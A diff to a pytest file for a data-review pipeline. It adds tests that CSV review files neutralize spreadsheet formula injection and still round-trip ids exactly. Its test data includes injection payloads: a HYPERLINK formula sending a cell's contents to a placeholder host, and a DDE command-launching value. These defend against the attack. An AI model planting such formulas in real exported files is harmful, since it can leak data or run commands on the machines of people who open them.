@@ -10,8 +10,10 @@ import pytest
 from pipeline.launch import main
 from pipeline.review import ReviewError, read_decisions
 from pipeline.review import main as review_main
+from pipeline.review import write_rows
 from schemas.records import FLAG, QUARANTINE, REDACT, Span, Verdict, make_record
-from schemas.review import CLUSTER, RECORD, REJECT, RELEASE, Decision, key
+from schemas.review import (CLUSTER, COLUMNS, RECORD, REJECT, RELEASE, Decision, key,
+                            neutralized, restored)
 from tests.jobs import run_job
 from tests.builders import document, edit, write_jsonl
 from transforms.decide.decide import decide
@@ -137,8 +139,10 @@ def nights(tmp_path_factory):
     rows.append({**rows[-1], "scope": RECORD, "id": "alpha", "decision": REJECT,
                  "reviewer": "bo", "note": "off-topic", "reviewed_at": "2026-11-23T09:30:00Z"})
     first = write_csv(folder / "decisions-1.csv", rows)
+    # A spreadsheet that read 00012345 as a number wrote it back as 12345: it matches nothing.
     second = write_csv(folder / "decisions-2.csv", [
-        {"scope": CLUSTER, "id": dup_cluster, "decision": REJECT, "reviewer": "bo"}])
+        {"scope": CLUSTER, "id": dup_cluster, "decision": REJECT, "reviewer": "bo"},
+        {"scope": RECORD, "id": "12345", "decision": REJECT, "reviewer": "bo"}])
 
     # Night two: the same files and new ones, with new members of both clusters.
     write_jsonl(folder / "n2.jsonl", [("dup-3", base[1]), ("near-3", edit(rng, base[2], 1)),
@@ -187,7 +191,10 @@ def test_the_second_night_applies_the_first_nights_decisions(nights):
     refused = [r for r in held.values() if r["review_status"] == "release_refused"]
     assert [r["primary_reason"] for r in refused] == ["malformed_json"]
     assert two.summary["review"] == {"released": 3, "rejected": 4, "release_refused": 1}
-    assert two.manifest()["review"]["decisions"] == 5
+    assert two.manifest()["review"]["decisions"] == 6
+    assert one.summary["decisions"] == {"read": 0, "unmatched": 0, "unmatched_examples": []}
+    assert two.summary["decisions"] == {"read": 6, "unmatched": 1,
+                                        "unmatched_examples": ["record:12345"]}
     assert (two.path / "report" / "index.html").exists()
 
 
@@ -198,3 +205,41 @@ def test_a_bad_decisions_file_stops_the_run_before_it_starts(tmp_path, capsys):
                  "--review-decisions", str(bad)]) == 2
     assert "--review-decisions" in capsys.readouterr().err
     assert not (tmp_path / "o").exists()
+
+
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "@SUM(A1)", "+cmd|' /C calc'!A0",
+           "-2+3", "\tTAB", "\rCR", "'=already quoted", "'plain quote", "00012345", "doc 7"]
+
+
+def test_cells_are_never_formulas_and_read_back_exactly():
+    for value in HOSTILE:
+        cell = neutralized(value)
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert restored(cell) == value
+    # A spreadsheet may drop the quote when it saves: the value is the same.
+    assert restored("=SUM(A1)") == "=SUM(A1)" and restored("'hello") == "'hello"
+
+
+def test_the_decisions_file_is_safe_to_open_and_round_trips(tmp_path):
+    listed = tmp_path / "review.csv"
+    rows = [{"scope": RECORD, "id": value, "reason": "pii_email", "risk": 0.3,
+             "preview": value, "size": None} for value in HOSTILE]
+    with open(listed, "w", newline="", encoding="utf-8") as out:
+        write_rows(out, rows)
+    text = listed.read_text(encoding="utf-8")
+    with open(listed, newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert len(cells) == len(COLUMNS) * (len(HOSTILE) + 1)
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    # Every cell quoted: "00012345" stays text in a spreadsheet that keeps quoted cells as text.
+    assert '"00012345"' in text and '"pii_email"' in text and '""' in text
+    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in COLUMNS)
+    # A reviewer fills the decision column (as a spreadsheet saves it, quotes kept) ...
+    with open(listed, newline="", encoding="utf-8") as f:
+        filled = list(csv.DictReader(f))
+    for row in filled:
+        row["decision"] = REJECT
+    decided = write_csv(tmp_path / "decided.csv", filled)
+    # ... and the decisions name exactly the ids that were listed.
+    found = read_decisions([str(decided)])
+    assert set(found) == {key(RECORD, value.strip()) for value in HOSTILE}
